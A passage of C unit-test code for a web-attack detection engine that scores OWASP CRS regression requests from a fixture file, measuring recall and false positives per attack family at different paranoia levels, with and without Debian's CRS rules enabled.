 * request URI, User-Agent)?  CRS tests that put the payload only in
 * another header or in the body send a request that is logged as a
 * plain "GET /get" and cannot be told apart from a benign one.
 */
static int
logged(const char *rule_id, const char *uri, const char *ua)
{
	static const char *const plain[] = {"/", "/get", "/post", "/upload",
	    "/upload1", "/anything", "*", "/post/foo", "/post/bar",
	    "/pineapple", "/cgi-bin/fup.cgi", "/get/upload1"};
	/* the URI is not plain, but what fires is a header: 920201/920202
	 * Range, 920660 and 920340 Content-Length / Content-Type, 920120
	 * multipart file names, 920490 the x-up-devcap-post-charset header
	 * (its User-Agent "UP ..." is only the condition) */
	static const char *const header_rules[] = {
	    "920201", "920202", "920660", "920120", "920340", "920490"};

	for (size_t i = 0; i < countof(header_rules); i++)
		if (strcmp(rule_id, header_rules[i]) == 0)
			return 0;
	if (ua[0] != '\0' && strcmp(ua, "OWASP CRS test agent") != 0)
		return 1;
	for (size_t i = 0; i < countof(plain); i++)
		if (strcmp(uri, plain[i]) == 0)
			return 0;
	return 1;
}

static int
family_hit(const struct attack_engine *e, const struct family *fam,
    const struct attack_result *res)
{
	for (size_t c = 0; c < 6 && fam->classes[c]; c++)
		if (attack_has_class(e, res, fam->classes[c]))
			return 1;
	return 0;
}

/* The same, counting only rules of paranoia 2 or less: a rule's hits do
 * not depend on the other rules, so this is what paranoia 2 finds. */
static int
family_hit_p2(const struct attack_engine *e, const struct family *fam,
    const struct attack_result *res)
{
	for (size_t i = 0; i < res->nhits; i++) {
		const struct attack_rule *r = attack_rule_of(e, &res->hit[i]);

		for (size_t c = 0; c < 6 && fam->classes[c]; c++)
			if (r->paranoia <= 2 &&
			    strcmp(r->cls, fam->classes[c]) == 0)
				return 1;
	}
	return 0;
}

/* Splits a TSV line in place into at most max columns. */
static size_t
split_tsv(char *line, char **col, size_t max)
{
	size_t n = 0;

	col[n++] = line;
	for (char *p = line; *p && n < max; p++)
		if (*p == '\t') {
			*p = '\0';
			col[n++] = p + 1;
		}
	return n;
}

/* The corpus writes '\' as "\\" and tab, CR, LF as "\t", "\r", "\n". */
static void
tsv_unescape(char *s)
{
	char *w = s;

	for (; *s; s++) {
		if (*s == '\\' && s[1] != '\0' && strchr("\\ntr", s[1])) {
			s++;
			*w++ = *s == 'n' ? '\n'
			    : *s == 't'  ? '\t'
			    : *s == 'r'  ? '\r'
			                 : '\\';
		} else
			*w++ = *s;
	}
	*w = '\0';
}

struct crs_totals {
	unsigned det, hit, nodet, fp, hidden, other, other_status;
	unsigned fp_low; /* no-detect rows flagged by a rule of paranoia < 3 */
	unsigned hit_p2; /* detect rows flagged by rules of paranoia <= 2 */
};

/* Is there a hit by a rule of paranoia level below 3? */
static int
hit_below_3(const struct attack_engine *e, const struct attack_result *res)
{
	for (size_t i = 0; i < res->nhits; i++)
		if (attack_rule_of(e, &res->hit[i])->paranoia < 3)
			return 1;
	return 0;
}

static void
crs_eval(struct attack_engine *e, int paranoia, struct family *fams,
    struct crs_totals *t)
{
	struct strbuf sb = STRBUF_INIT(1u << 24);
	struct err err = {0};
	char *p, *nl;
	int verbose = getenv("ATTACK_VERBOSE") != NULL;

	memset(t, 0, sizeof(*t));
	memcpy(fams, families_init, sizeof(families_init));
	assert_int_equal(
	    file_read(FIXTURES "/attacks/crs-regression-requests.tsv", 1u << 24,
	        &sb, NULL, &err),
	    0);
	p = sb.p;
	nl = strchr(p, '\n'); /* header */
	assert_non_null(nl);
	for (p = nl + 1; *p; p = nl + 1) {
		char *col[10];
		struct family *fam = NULL;
		struct attack_result res;
		const char *method, *why;
		int detect, hit;

		nl = strchr(p, '\n');
		if (nl == NULL)
			break;
		*nl = '\0';
		if (split_tsv(p, col, 10) < 10)
			continue;
		for (size_t f = 0; f < NFAM; f++)
			if (strstr(col[0], fams[f].group) != NULL)
				fam = &fams[f];
		if (fam == NULL)
			continue;
		if (strcmp(col[8], "detect") == 0)
			detect = 1;
		else if (strcmp(col[8], "no-detect") == 0)
			detect = 0;
		else { /* expects a status code or a log text: not ours */
			t->other_status++;
			continue;
		}
		tsv_unescape(col[5]);
		tsv_unescape(col[6]);
		method = col[4];
		while (*method == ' ' || *method == '\t')
			method++;
		match_on(e, method, col[5], col[6], &res);
		why = detect ? NULL : other_rule_reason(col[1], col[2]);
		if (why != NULL) {
			fam->other++;
			t->other++;
			detect = 1;
		}
		if (detect) {
			if (!logged(col[1], col[5], col[6])) {
				fam->hidden++;
				t->hidden++;
				continue;
			}
			hit = family_hit(e, fam, &res);
			t->hit_p2 += (unsigned)family_hit_p2(e, fam, &res);
			fam->det++;
			fam->det_hit += (unsigned)hit;
			if (!hit && verbose) {
				fprintf(stderr, "MISS(p%d) %s/%s %s %s | %s\n",
				    paranoia, col[1], col[2], method, col[5],
				    col[6]);
				explain_on(e, "got", &res);
			}
		} else {
			hit = res.nhits > 0;
			t->fp_low += (unsigned)hit_below_3(e, &res);
			fam->nodet++;
			fam->nodet_hit += (unsigned)hit;
			if (hit && verbose) {
				fprintf(stderr, "FP(p%d) %s/%s %s %s | %s\n",
				    paranoia, col[1], col[2], method, col[5],
				    col[6]);
				explain_on(e, "got", &res);
			}
		}
	}
	printf("CRS regression requests at paranoia %d, per class family "
	       "(payload in method, URI or User-Agent):\n",
	    paranoia);
	printf("%-22s %7s %7s %7s %7s %7s %7s\n", "family", "detect", "flagged",
	    "recall", "no-det", "flagged", "FP");
	for (size_t f = 0; f < NFAM; f++) {
		struct family *fm = &fams[f];

		printf("%-22s %7u %7u %6.1f%% %7u %7u %6.1f%%   (+%u not in "
		       "a logged field; %u no-detect for another rule)\n",
		    fm->group, fm->det, fm->det_hit,
		    fm->det ? 100.0 * fm->det_hit / fm->det : 100.0, fm->nodet,
		    fm->nodet_hit,
		    fm->nodet ? 100.0 * fm->nodet_hit / fm->nodet : 0.0,
		    fm->hidden, fm->other);
		t->det += fm->det;
		t->hit += fm->det_hit;
		t->nodet += fm->nodet;
		t->fp += fm->nodet_hit;
	}
	printf("%-22s %7u %7u %6.1f%% %7u %7u %6.1f%%   (+%u not in a "
	       "logged field; %u no-detect for another rule; %u expecting a "
	       "status)\n",
	    "ALL", t->det, t->hit, 100.0 * t->hit / t->det, t->nodet, t->fp,
	    100.0 * t->fp / t->nodet, t->hidden, t->other, t->other_status);
	strbuf_release(&sb);
}

static void
crs_recall_and_false_positives(void **state)
{
	struct family fams[NFAM];
	struct crs_totals t;

	(void)state;
	/* the shipped default: no false positive at all, and a floor for
	 * recall (the rows missed need rules of paranoia 2 or more) */
	crs_eval(&engine, 1, fams, &t);
	assert_int_equal(t.det, 227);
	assert_true(t.hit >= 214);
	assert_int_equal(t.fp, 0);
	/* as CRS's own harness runs (paranoia 4): every attack caught.  The
	 * no-detect rows there are only flagged by paranoia 3-4 rules, which
	 * by design flag ordinary text (a space, a '%') as CRS's 920272 and
	 * 920273 do; none by a rule of level 1 or 2. */
	crs_eval(&engine_strict, 4, fams, &t);
	assert_int_equal(t.det, 227);
	assert_int_equal(t.hit, t.det);
	assert_int_equal(t.fp_low, 0);
	printf("paranoia 4: no-detect rows flagged by rules of paranoia 3-4 "
	       "only: %u, by lower levels: %u\n",
	    t.fp, t.fp_low);
	printf("paranoia 2 (the rules of level 1-2 in the same run): recall "
	       "%u/%u, false positives %u/%u\n",
	    t.hit_p2, t.det, t.fp_low, t.nodet);
	assert_true(t.hit_p2 >= 221);
}

/*
 * The same rows through an engine with Debian's Core Rule Set on (set crs
 * yes) at paranoia 1 and 4, on the rows whose URI carries more than a
 * bare path (a query string): per family, the detect rows the CRS rules
 * alone flag (anomaly score 5 or more), those sakimori's rules and the
 * CRS together flag, and the no-detect rows each flags.
 */
struct crs_fam {
	unsigned det, crs, both, own, nodet, crs_fp, both_fp;
};

static void
crs_on_eval(int paranoia, struct crs_fam *tot)
{
	struct attack_engine e;
	struct attack_ruleset rs;
	struct crs_set cs;
	struct strbuf sb = STRBUF_INIT(1u << 24);
	struct err err = {0};
	struct crs_fam fam[NFAM];
	char *p, *nl, cache[64];

	memset(fam, 0, sizeof(fam));
	memset(tot, 0, sizeof(*tot));
	ruleset_init(&rs);
	assert_int_equal(ruleset_load_path(&rs, RULES_DIR, &err), 0);
	ruleset_set_paranoia(&rs, paranoia);
	/* the rules setup compiled, from its cache */
	own_cache(paranoia, cache, sizeof(cache));
	assert_int_equal(attack_engine_init(&e, &rs, cache, 0, &err), 0);
	assert_int_equal(e.sig.from_cache, 1);
	crs_set_init(&cs);
	if (crs_load_dir(&cs, CRS_DEFAULT_DIR, &err) == -1 ||
	    attack_engine_crs(&e, &cs, paranoia, 5, NULL, &err) == -1)
		fail_msg("%s (scripts/deps.sh test installs modsecurity-crs)",
		    err.msg);
	assert_int_equal(
	    file_read(FIXTURES "/attacks/crs-regression-requests.tsv", 1u << 24,
	        &sb, NULL, &err),
	    0);
	nl = strchr(sb.p, '\n');
	for (p = nl + 1; nl != NULL && *p; p = nl + 1) {
		char *col[10];
		struct attack_result res;
		const char *method;
		size_t f;
		int detect, own, crs;

		if ((nl = strchr(p, '\n')) == NULL)
			break;
		*nl = '\0';
		if (split_tsv(p, col, 10) < 10)
			continue;
		for (f = 0; f < NFAM; f++)
			if (strstr(col[0], families_init[f].group) != NULL)
				break;
		if (f == NFAM || strchr(col[5], '?') == NULL)
			continue;
		if (strcmp(col[8], "detect") == 0)
			detect = 1;
		else if (strcmp(col[8], "no-detect") == 0)
			detect = other_rule_reason(col[1], col[2]) != NULL;
		else
			continue;
		tsv_unescape(col[5]);
		tsv_unescape(col[6]);
		method = col[4];
		while (*method == ' ' || *method == '\t')
			method++;
		match_on(&e, method, col[5], col[6], &res);
		crs = res.crs_score >= 5;
		own = 0;
		for (size_t i = 0; i < res.nhits; i++)
			if (attack_rule_of(&e, &res.hit[i])->id != 949110)
				own = 1;
		if (detect) {
			fam[f].det++;
			fam[f].crs += (unsigned)crs;
			fam[f].own += (unsigned)own;
			fam[f].both += (unsigned)(res.nhits > 0);
		} else {
			if (crs) { /* the CRS rules behind a false positive */
				printf("  CRS FP (p%d) %s/%s %s:", paranoia,
				    col[1], col[2], col[5]);
				for (unsigned i = 0; i < res.ncrs; i++)
					printf(" %u", res.crs[i].id);
				printf("\n");
			}
			fam[f].nodet++;
			fam[f].crs_fp += (unsigned)crs;
			fam[f].both_fp += (unsigned)(res.nhits > 0);
		}
	}
	printf("CRS regression rows with a query string, paranoia %d, "
	       "Debian's CRS on (%zu rules translated):\n",
	    paranoia, e.crs->set.n);
	printf("%-22s %6s %6s %6s %6s %6s %6s %6s\n", "family", "detect", "CRS",
	    "own", "both", "no-det", "CRS FP", "FP");
	for (size_t f = 0; f < NFAM; f++) {
		const struct crs_fam *x = &fam[f];

		printf("%-22s %6u %6u %6u %6u %6u %6u %6u\n",
		    families_init[f].group, x->det, x->crs, x->own, x->both,
		    x->nodet, x->crs_fp, x->both_fp);
		tot->det += x->det;
		tot->crs += x->crs;
		tot->own += x->own;
		tot->both += x->both;
		tot->nodet += x->nodet;
		tot->crs_fp += x->crs_fp;
		tot->both_fp += x->both_fp;
	}
	printf("%-22s %6u %6u %6u %6u %6u %6u %6u\n", "ALL", tot->det, tot->crs,
	    tot->own, tot->both, tot->nodet, tot->crs_fp, tot->both_fp);
	strbuf_release(&sb);
	attack_engine_release(&e);
}

static void
crs_rule_set_on(void **state)
{
	struct crs_fam p1, p4;

	(void)state;
	crs_on_eval(1, &p1);
	crs_on_eval(4, &p4);
	/* one verdict: the CRS only adds to what sakimori's rules flag */
	assert_true(p1.both >= p1.own && p1.both >= p1.crs);
	assert_true(p4.both >= p4.own && p4.both >= p4.crs);
	/* a higher level flags more */
	assert_true(p4.crs >= p1.crs);
	/* floors for what the translated rules find on their own (they
	 * were 81 and 135 of 189 when measured) */
	assert_int_equal(p1.det, 189);
	assert_true(p1.crs >= 81);
	assert_true(p4.crs >= 135);
}

int
main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(decodes_overlong_and_double),
	    cmocka_unit_test(keeps_plain_paths),
	    cmocka_unit_test(survives_bad_input),
	    cmocka_unit_test(shell_form_drops_quoting),
	    cmocka_unit_test(ruleset_parse_and_override),
	    cmocka_unit_test(misspelled_anomaly_fails_to_load),
	    cmocka_unit_test(attack_sev_maps_onto_findings),
	    cmocka_unit_test(bad_pattern_names_the_rule),
	    cmocka_unit_test(seed_iis_unicode_request),
	    cmocka_unit_test(benign_look_alikes),
	    cmocka_unit_test(bad_input_is_handled),
	    cmocka_unit_test(modern_attacks),
	    cmocka_unit_test(status_rules),
	    cmocka_unit_test(crs_recall_and_false_positives),
	    cmocka_unit_test(crs_rule_set_on),
	    cmocka_unit_test(memo_grows_when_busy),
	    cmocka_unit_test(compile_in_child_then_cache),
	    cmocka_unit_test(hits_in_the_order_of_every_rule),
	};

	if (argc > 1) /* a pattern: only the cases it names */
		cmocka_set_test_filter(argv[1]);
	return cmocka_run_group_tests(tests, setup, teardown);
}
